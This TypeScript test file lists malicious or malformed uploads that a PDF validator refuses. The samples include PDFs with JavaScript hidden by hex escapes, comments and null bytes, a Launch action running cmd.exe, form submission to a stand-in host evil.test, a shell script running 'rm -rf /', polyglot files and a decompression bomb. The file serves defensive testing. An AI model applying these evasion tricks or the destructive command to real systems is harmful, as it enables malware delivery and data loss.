import type { DocumentRefusal } from '#contract/documents.ts'
import { makeDocx, makePdf, makeZip, packedObjects } from './test-documents.ts'

const zeros = Buffer.alloc(8 * 1024 * 1024)
const text = (words: string) => Buffer.from(words)
const action = (type: string) => `5 0 obj << /Type /Action ${type} >> endobj`
const script = '8 0 << /S /JavaScript /JS (1) >>'

/** PDFs that are refused when they are uploaded, and why. */
export const refusedPdfs: [what: string, bytes: Buffer, refusal: DocumentRefusal][] = [
  ['a program', text('MZ\x90\0This program cannot be run'), 'notPdf'],
  ['a web page', text('<html><script>alert(1)</script></html>'), 'notPdf'],
  ['a drawing with a script', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'notPdf'],
  ['a picture', Buffer.from('ffd8ffe000104a464946', 'hex'), 'notPdf'],
  ['PostScript', text('%!PS-Adobe-3.0\n%%EOF'), 'notPdf'],
  ['a PDF behind other bytes', Buffer.concat([text('GIF89a'), makePdf()]), 'notPdf'],
  ['a PDF behind a shell script', Buffer.concat([text('#!/bin/sh\nrm -rf /\n'), makePdf()]), 'notPdf'],
  ['a Word document called PDF', makeDocx(), 'notPdf'],
  ['a PDF cut off', makePdf().subarray(0, 200), 'pdfCut'],
  ['a PDF with a program behind it', makePdf({ end: '%%EOF\nMZ\x90' }), 'pdfCut'],
  ['a PDF with an archive behind it', Buffer.concat([makePdf(), makeZip([{ name: 'a', content: 'b' }])]), 'pdfCut'],
  [
    'a PDF that is an archive as well',
    makePdf({ objects: [withComment(makeZip([{ name: 'a.exe', content: 'MZ' }]), 300)] }),
    'twoFormats',
  ],
  ['a PDF that is a web page as well', makePdf({ header: '%PDF-1.7\n%<script>alert(1)</script>' }), 'twoFormats'],
  ['a PDF with a password', makePdf({ trailer: '/Encrypt 9 0 R' }), 'pdfPassword'],
  ['a PDF with a password in place', makePdf({ trailer: '/Encrypt<< /Filter /Standard >>' }), 'pdfPassword'],
  ['a PDF with a script', makePdf({ objects: [action('/S /JavaScript /JS (app.alert(1))')] }), 'pdfActive'],
  [
    'a PDF with a script, written in numbers',
    makePdf({ objects: [action('/S /J#61v#61Script /JS (1)')] }),
    'pdfActive',
  ],
  ['a PDF with a script behind a comment', makePdf({ objects: [action('/S%x\n/JavaScript /JS (1)')] }), 'pdfActive'],
  ['a PDF with a script behind a zero', makePdf({ objects: [action('/S\0/JavaScript /JS (1)')] }), 'pdfActive'],
  [
    'a PDF with its script elsewhere',
    makePdf({ objects: [action('/S 7 0 R'), '7 0 obj /JavaScript endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with named scripts',
    makePdf({ objects: ['6 0 obj << /Names << /JavaScript 7 0 R >> >> endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script',
    makePdf({ objects: [packedObjects('8 0 << /S /JavaScript /JS (1) >>')] }),
    'pdfActive',
  ],
  ['a PDF that starts a program', makePdf({ objects: [action('/S /Launch /F (cmd.exe)')] }), 'pdfActive'],
  ['a PDF that sends a form', makePdf({ objects: [action('/S /SubmitForm /F (https://evil.test)')] }), 'pdfActive'],
  ['a PDF that fetches another', makePdf({ objects: [action('/S /GoToR /F (\\\\\\\\evil.test\\\\x)')] }), 'pdfActive'],
  ['a PDF with a film', makePdf({ objects: ['6 0 obj << /Subtype /RichMedia >> endobj'] }), 'pdfActive'],
  [
    'a PDF with an XFA form',
    makePdf({ objects: ['6 0 obj << /AcroForm << /XFA [ (x) 7 0 R ] >> >> endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with files inside',
    makePdf({ objects: ['6 0 obj << /Names << /EmbeddedFiles 7 0 R >> >> endobj'] }),
    'pdfAttachments',
  ],
  [
    'a PDF with a file as a note',
    makePdf({ objects: ['6 0 obj << /Subtype /FileAttachment >> endobj'] }),
    'pdfAttachments',
  ],
  ['a PDF with packed files', makePdf({ objects: [packedObjects('8 0 << /Type /EmbeddedFile >>')] }), 'pdfAttachments'],
  [
    'a PDF packed twice',
    makePdf({ objects: [packedObjects('8 0 << >>', { dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]' })] }),
    'pdfUnusual',
  ],
  [
    'a PDF with a predictor',
    makePdf({
      objects: [packedObjects('8 0 << >>', { dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })],
    }),
    'pdfUnusual',
  ],
  [
    'a PDF with damaged objects',
    makePdf({ objects: [packedObjects('8 0 << >>', { pack: (bytes) => bytes as never })] }),
    'pdfUnusual',
  ],
  [
    'a PDF that unpacks to hundreds of megabytes',
    makePdf({ objects: Array.from({ length: 8 }, () => packedObjects(zeros.toString('latin1'))) }),
    'pdfUnusual',
  ],
  [
    'a PDF with a packed script behind a comment that speaks of streams',
    makePdf({ objects: [packedObjects(script, { dictionary: '% stream\n/Filter /FlateDecode' })] }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script far behind its dictionary',
    makePdf({ objects: [packedObjects(script, { dictionary: `/Filter /FlateDecode /Note (${'x'.repeat(5_000)})` })] }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script that is not called so',
    makePdf({ objects: [packedObjects(script, { type: '' })] }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script behind a dictionary with brackets in a text',
    makePdf({
      objects: [
        packedObjects(script, { dictionary: '/A (>> \\) stream ( )) /B << /C <3e3e> >> /Filter [/Fl#61teDecode]' }),
      ],
    }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script in a short form',
    makePdf({ objects: [packedObjects(script, { dictionary: '/F /Fl' })] }),
    'pdfUnusual',
  ],
  [
    'a PDF with a packed name of an action',
    makePdf({ objects: [packedObjects('8 0 9 20 << /S 9 0 R /JS (1) >> /JavaScript')] }),
    'pdfUnusual',
  ],
  [
    'a PDF with a script behind a percent sign in a text',
    makePdf({ objects: [action('/Note (100%) /S /JavaScript /JS (1)')] }),
    'pdfActive',
  ],
]

/** The comment of the archive reaches to the end of the file. */
function withComment(zip: Buffer, length: number): Buffer {
  zip.writeUInt16LE(length, zip.length - 2)
  return Buffer.concat([zip, Buffer.alloc(length, ' ')])
}
